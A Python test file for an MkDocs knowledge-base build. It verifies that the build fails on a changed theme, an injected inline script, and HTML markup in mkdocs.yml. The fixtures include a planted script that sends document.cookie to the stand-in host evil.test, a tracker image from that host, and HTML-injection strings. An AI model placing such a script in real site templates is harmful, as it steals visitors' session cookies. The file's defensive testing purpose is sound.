"""Safety for the whole page, not only the article (issue 27), through `mkdocs build` and
`kb check` on small projects, one build per kind of fault:

- a theme whose markup changed (the article's class renamed) stops the build, saying what the
  HTML policy expected, even with an unsafe image planted in a page: it never judges a page by
  the wrong rules (fail closed); `kb check` names every page so at once;
- an inline script that neither the theme nor this project writes, put in by a template
  override, fails the build naming each page, and its hash stays out of the page's policy;
- markup in mkdocs.yml (copyright, a navigation title, a colour-scheme name, a translated
  navigation title) is refused by the build and by `kb check`, named by mkdocs.yml's line;
- quotes and ampersands in mkdocs.yml's strings are text wherever the theme prints them.
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from bs4 import BeautifulSoup

from kb.content import material_markup
from kb.languages import LANGUAGES
from kb.local_site import build_site
from tests.support.projects import run_kb, small_project
from tests.support.site import made_once

# Slow: it builds projects of its own. `make test` runs it; `make test-fast` leaves it out.
pytestmark = pytest.mark.slow

SITE_URL = "http://127.0.0.1:8000/"
PAGE = "---\ntitle: A page\ndescription: A page.\ntags:\n  - it\n---\n\nText.\n\n![tracker](https://evil.test/p.gif)\n"
RENAMED_ARTICLE = """
{% block container %}
  <div class="md-content" data-md-component="content">
    <article class="md-content__inner kb-renamed md-typeset">{{ page.content }}</article>
  </div>
{% endblock %}
"""
INJECTED_SCRIPT = (
    '{% block scripts %}{{ super() }}<script>fetch("https://evil.test/" + document.cookie)</script>{% endblock %}'
)
QUOTED_NAME = 'Say "yes" & mean it'  # quotes and an ampersand: text, not markup
QUOTED_COPYRIGHT = 'Written by "us" & friends'


def built(folder: Path, project: Path, check: bool = False) -> dict[str, str]:
    result = build_site(project, folder / "site", SITE_URL, strict=False)
    outcome = {"returncode": str(result.returncode), "log": result.stdout + result.stderr}
    if check:
        outcome["kb-check"] = run_kb(project, "check").stdout
    for name, text in outcome.items():
        (folder / name).write_text(text, encoding="utf-8")
    return outcome


def read(folder: Path, name: str) -> str:
    return (folder / name).read_text(encoding="utf-8")


@pytest.fixture(scope="session")
def renamed_theme() -> Path:
    def make(folder: Path) -> None:
        project = small_project(folder / "project", ["page.md"])
        for lang in LANGUAGES:
            (project / "docs" / lang / "page.md").write_text(PAGE, encoding="utf-8")
        main = project / "overrides" / "main.html"
        main.write_text(main.read_text(encoding="utf-8") + RENAMED_ARTICLE, encoding="utf-8")
        built(folder, project, check=True)

    return made_once("renamed-theme", make)


def test_a_theme_whose_article_markup_changed_stops_the_build(renamed_theme: Path) -> None:
    log = read(renamed_theme, "log")
    assert read(renamed_theme, "returncode") != "0" and "Traceback" not in log, log
    expected = (
        f"the built page has no '{material_markup.ARTICLE_START}' (the article, as mkdocs-material "
        f"{material_markup.UPSTREAM['mkdocs-material']} writes it): the theme's markup changed"
    )
    assert expected in log and re.search(
        r"(docs/(en|ar|fa)/(index|page)\.md|overrides/404\.html \(the en page\)): the built page has no", log
    ), log
    assert "update scripts/kb/content/material_markup.py" in log, log


def test_kb_check_names_every_page_of_the_changed_theme_at_once(renamed_theme: Path) -> None:
    """The build stops at the first page; `kb check` collects: every page of every language,
    each named once, and the 404 page."""
    text = read(renamed_theme, "kb-check")
    assert "Traceback" not in text, text
    for lang in LANGUAGES:
        for page in ("index.md", "page.md"):
            named = [
                line for line in text.splitlines() if line.startswith(f"docs/{lang}/{page}:1: the built page has no")
            ]
            assert len(named) == 1, text
    assert "overrides/404.html (the en page):1: the built page has no" in text, text


@pytest.fixture(scope="session")
def injected_script() -> Path:
    def make(folder: Path) -> None:
        project = small_project(folder / "project", [])
        main = project / "overrides" / "main.html"
        main.write_text(main.read_text(encoding="utf-8") + INJECTED_SCRIPT, encoding="utf-8")
        config = project / "mkdocs.yml"
        text = config.read_text(encoding="utf-8")
        text = text.replace("site_name: Marketing & IT Knowledge Base", f"site_name: '{QUOTED_NAME}'")
        text = text.replace(
            "copyright: Written by the marketing and IT staff who use it.", f"copyright: '{QUOTED_COPYRIGHT}'"
        )
        config.write_text(text, encoding="utf-8")
        built(folder, project)

    return made_once("injected-script", make)


def test_an_inline_script_no_one_wrote_fails_the_build_naming_each_page(injected_script: Path) -> None:
    log = read(injected_script, "log")
    assert "Traceback" not in log, log
    for lang in LANGUAGES:
        expected = (
            f"docs/{lang}/index.md: an inline script that neither the theme nor this project writes is not allowed: "
            "'fetch(\"https://evil.test/\" + document.cookie)' is not in KNOWN_INLINE_SCRIPTS"
        )
        assert expected in log, log
        page = (injected_script / "site" / LANGUAGES[lang].root / "index.html").read_text(encoding="utf-8")
        policy = BeautifulSoup(page, "html.parser").select_one('meta[http-equiv="Content-Security-Policy"]')["content"]
        hashes = re.findall(r"'sha256-[^']+'", policy)
        assert len(hashes) == len(material_markup.KNOWN_INLINE_SCRIPTS), policy  # the theme's, not the injected one


@pytest.mark.parametrize("lang", ["en"])
def test_quotes_and_ampersands_in_the_configuration_stay_text(injected_script: Path, lang: str) -> None:
    page = BeautifulSoup(
        (injected_script / "site" / LANGUAGES[lang].root / "index.html").read_text(encoding="utf-8"), "html.parser"
    )
    assert page.title.get_text().endswith(QUOTED_NAME)
    assert page.select_one('meta[property="og:site_name"]')["content"] == QUOTED_NAME
    assert page.select_one(".md-header__button.md-logo")["title"] == QUOTED_NAME
    assert page.select_one(".md-header__button.md-logo")["aria-label"] == QUOTED_NAME
    assert page.select_one(".md-header__topic .md-ellipsis").get_text(strip=True) == QUOTED_NAME
    assert page.select_one(".md-copyright__highlight").get_text(strip=True) == QUOTED_COPYRIGHT


# Markup in mkdocs.yml, each with the text its line is found by.
CONFIG_MARKUP = {
    "copyright": ("copyright: Written by the marketing and IT staff who use it.", "copyright: 'Ours <img src=x>'"),
    "nav title": (
        "  - Home: index.md\n",
        '  - Home: index.md\n  - More <div class="md-content"></div>:\n    - more.md\n',
    ),
    "palette": ("        name: Switch to dark mode", "        name: Dark &#60;b&#62;"),
    "nav translation": ("            Home: الرئيسية", "            Home: <b>الرئيسية</b>"),
}
CONFIG_MARKUP_FOUND = {"copyright": "'<img'", "nav title": "'<div'", "palette": "'&#60;'", "nav translation": "'<b'"}


@pytest.fixture(scope="session")
def config_markup() -> Path:
    def make(folder: Path) -> None:
        project = small_project(folder / "project", [])
        for lang in LANGUAGES:
            (project / "docs" / lang / "more.md").write_text(PAGE.replace("![tracker](https://evil.test/p.gif)\n", ""))
        config = project / "mkdocs.yml"
        text = config.read_text(encoding="utf-8")
        for before, after in CONFIG_MARKUP.values():
            assert before in text, before
            text = text.replace(before, after, 1)
        config.write_text(text, encoding="utf-8")
        built(folder, project, check=True)

    return made_once("config-markup", make)


@pytest.mark.parametrize("output", ["log", "kb-check"])
@pytest.mark.parametrize("name", CONFIG_MARKUP)
def test_markup_in_the_configuration_is_refused_at_its_line(config_markup: Path, output: str, name: str) -> None:
    config = (config_markup / "project" / "mkdocs.yml").read_text(encoding="utf-8").splitlines()
    planted = CONFIG_MARKUP[name][1].strip().splitlines()[-1 if name != "nav title" else 1].strip()
    line = next(number for number, text in enumerate(config, start=1) if text.strip() == planted)
    text = read(config_markup, output)
    expected = f"mkdocs.yml:{line}: markup ({CONFIG_MARKUP_FOUND[name]}) in "
    assert expected in text and "Traceback" not in text, text
    assert "docs/" not in "\n".join(found for found in text.splitlines() if "markup (" in found), (
        text
    )  # the YAML, not the pages
    if output == "log":
        assert read(config_markup, "returncode") != "0"
